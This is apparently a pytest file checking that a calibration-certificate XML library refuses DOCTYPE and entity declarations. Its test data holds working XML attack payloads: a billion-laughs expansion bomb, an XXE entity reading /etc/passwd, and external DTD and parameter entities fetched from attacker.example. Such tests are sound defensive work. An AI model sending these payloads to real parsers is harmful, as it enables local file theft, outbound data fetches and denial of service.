"""Hostile XML: DOCTYPE / entity declarations are refused before anything is expanded."""

from __future__ import annotations

import time

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from jiliang.dcc import (
    DccSignatureError,
    UnsafeXmlError,
    parse_xml,
    read_dcc,
    validate_dcc,
    verify_dcc_signature,
)
from jiliang.dcc.safexml import safe_parser

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<dcc:digitalCalibrationCertificate xmlns:dcc="https://ptb.de/dcc" schemaVersion="3.3.0">
<dcc:comment>&lol9;</dcc:comment></dcc:digitalCalibrationCertificate>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<dcc:digitalCalibrationCertificate xmlns:dcc="https://ptb.de/dcc" schemaVersion="3.3.0">
<dcc:comment>&xxe;</dcc:comment></dcc:digitalCalibrationCertificate>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE dcc SYSTEM "http://attacker.example/evil.dtd">
<dcc:digitalCalibrationCertificate xmlns:dcc="https://ptb.de/dcc" schemaVersion="3.3.0"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]>
<d/>
"""

HOSTILE = [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY]
IDS = ["billion-laughs", "xxe", "external-dtd", "parameter-entity"]


@pytest.mark.parametrize("xml", HOSTILE, ids=IDS)
def test_parse_refuses(xml: bytes) -> None:
    start = time.perf_counter()
    with pytest.raises(UnsafeXmlError, match="DOCTYPE"):
        parse_xml(xml)
    assert time.perf_counter() - start < 1.0


@pytest.mark.parametrize("xml", HOSTILE, ids=IDS)
def test_utf16_spelling_is_refused_too(xml: bytes) -> None:
    utf16 = xml.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    with pytest.raises(UnsafeXmlError):
        parse_xml(utf16.decode().encode("utf-16"))


@pytest.mark.parametrize("xml", HOSTILE, ids=IDS)
def test_validate_reports_without_expanding(xml: bytes) -> None:
    problems = validate_dcc(xml)
    assert len(problems) == 1 and problems[0].kind == "xml"
    assert "DOCTYPE" in problems[0].message


@pytest.mark.parametrize("xml", HOSTILE, ids=IDS)
def test_read_and_verify_refuse(xml: bytes) -> None:
    with pytest.raises(UnsafeXmlError):
        read_dcc(xml)
    with pytest.raises(DccSignatureError, match="DOCTYPE"):
        verify_dcc_signature(xml, ec.generate_private_key(ec.SECP256R1()).public_key())


def test_the_parser_itself_does_not_expand_entities() -> None:
    """Defence in depth: even past the DOCTYPE check, the parser would not expand or fetch."""
    from lxml import etree

    root = etree.fromstring(XXE, safe_parser())
    assert "root:" not in etree.tostring(root).decode()
    try:
        root = etree.fromstring(BILLION_LAUGHS, safe_parser())
    except etree.XMLSyntaxError as exc:  # libxml2 refuses the amplification outright
        assert "amplification" in str(exc)
    else:
        assert len(etree.tostring(root)) < 10_000
